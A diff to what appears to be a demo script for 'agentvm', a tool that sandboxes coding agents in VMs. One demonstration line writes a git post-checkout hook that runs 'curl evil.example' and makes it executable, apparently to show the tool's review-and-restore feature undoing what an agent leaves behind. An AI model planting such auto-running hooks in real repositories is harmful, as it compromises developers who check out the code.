@@ -18,7 +18,7 @@ type_and_run() {
 type_and_run '# The first run makes the VM of this project, and the second finds it.'
 type_and_run 'agentvm codex --version'
 type_and_run 'agentvm codex --version'
-type_and_run 'agentvm shell -- sh -c "id -un; pwd; git log --oneline | cat; cat /etc/debian_version"'
+type_and_run 'agentvm shell -- sh -c "uname -s; pwd; git log --oneline | cat"'
 type_and_run '# Not everything that an agent leaves is for you to run.'
 type_and_run "agentvm shell -- sh -c 'cd .git/hooks && echo curl evil.example >post-checkout && chmod +x post-checkout'"
 type_and_run 'agentvm review --restore'
